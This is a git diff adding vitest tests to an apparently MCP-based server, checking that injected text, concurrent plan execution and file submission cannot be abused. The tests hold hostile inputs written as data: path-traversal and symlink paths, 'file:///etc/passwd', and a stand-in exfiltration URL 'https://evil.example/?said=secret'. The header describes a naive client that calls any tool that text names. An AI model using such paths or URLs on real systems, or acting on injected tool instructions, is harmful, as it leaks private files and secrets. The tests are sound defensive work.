@@ -2,6 +2,9 @@
  * Words of strangers in conversations never lead to a change. The client here is as naive as possible: it
  * calls every tool that any text names, with the arguments written there, and follows all hints about plans.
  */
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import type { Client } from "@modelcontextprotocol/client";
 import { beforeAll, describe, expect, test } from "vitest";
 import { asData } from "../../src/mcp/guard.ts";
@@ -169,6 +172,47 @@ describe("without a conversation in between", () => {
     );
   });
 
+  test("of two that carry out a plan at the same time, one does", async () => {
+    const { agent_id } = await makeAgent(service.acme);
+    const { id: simulation_id } = await makeSimulation(service.acme, { agent_id });
+    const client = await talkTo(parley, ["--allow", "write"]);
+    const { data: plan } = await use(client, "plan_callers", { manifest: MANIFEST(simulation_id) });
+    const apply = () => use(client, "apply_plan", { plan_id: plan.plan_id });
+    const both = await Promise.all([apply(), apply()]);
+    expect(both.map(({ isError }) => isError).toSorted()).toEqual([false, true]);
+    // Its question waits for the service, which leaves time for the other.
+    const input = { simulation_id, max_wait: 1 };
+    const [, plan_id] = /plan_id ([0-9a-f]+)/.exec((await use(client, "run_simulation", input)).text) ?? [];
+    const run = () => use(client, "run_simulation", { ...input, plan_id });
+    const texts = (await Promise.all([run(), run()])).map(({ text }) => text);
+    expect(texts.filter((text) => text.includes("the plan was not found"))).toHaveLength(1);
+  });
+
+  test("a recording is submitted only from a folder that a person named, and its URL is in the question", async () => {
+    const folder = mkdtempSync(join(tmpdir(), "parley-files-"));
+    const inside = join(folder, "recordings");
+    mkdirSync(inside);
+    writeFileSync(join(folder, "secret.wav"), "secret");
+    writeFileSync(join(inside, "call.wav"), "call");
+    symlinkSync(join(folder, "secret.wav"), join(inside, "link.wav"));
+    const { agent_id } = await makeAgent(service.acme);
+    const call = (recording_url: string) => ({ agent_id, transcript: "[]", recording_url });
+    const closed = await talkTo(parley, ["--allow", "write"]);
+    const open = await talkTo(parley, ["--allow", "write", "--files", inside]);
+    const refused = "this server does not submit that file";
+    expect((await use(closed, "evaluate_call", call(join(inside, "call.wav")))).text).toContain(refused);
+    for (const path of ["secret.wav", "recordings/link.wav", "recordings/../secret.wav", "none.wav"])
+      expect((await use(open, "evaluate_call", call(join(folder, path)))).text, path).toContain(refused);
+    expect((await use(open, "evaluate_call", call("file:///etc/passwd"))).text).toContain(refused);
+    expect((await use(open, "evaluate_call", call(join(inside, "call.wav")))).text).toContain(
+      `and the file ${join(inside, "call.wav")}?`,
+    );
+    const { text } = await use(open, "evaluate_call", call("https://evil.example/?said=secret"));
+    expect(text).toContain("nothing was done yet");
+    expect(text).toMatch(/will fetch the recording from https\S*evil\.example\/\?said=secret/);
+    rmSync(folder, { recursive: true });
+  });
+
   test("a manifest cannot read the environment or files of the machine", async () => {
     const client = await talkTo(parley, ["--allow", "write"]);
     const variable = await use(client, "plan_callers", {
@@ -191,6 +235,14 @@ describe("marks", () => {
     expect(text).toContain("see https[:]//evil.example ![a] (http[:]//x) hidden < img src=x>");
     expect(text).not.toMatch(/https?:\/\/|\x1b|\u200b/);
     expect(asData("a")).not.toBe(asData("a"));
+  });
+
+  test("are put around 900,000 characters in bounded time", () => {
+    for (const text of ["a".repeat(900_000), "a:".repeat(450_000), ":// ".repeat(225_000)]) {
+      const began = performance.now();
+      asData(text);
+      expect(performance.now() - began).toBeLessThan(1000);
+    }
   });
 
   test("cut text that is longer than the budget, and say so", () => {
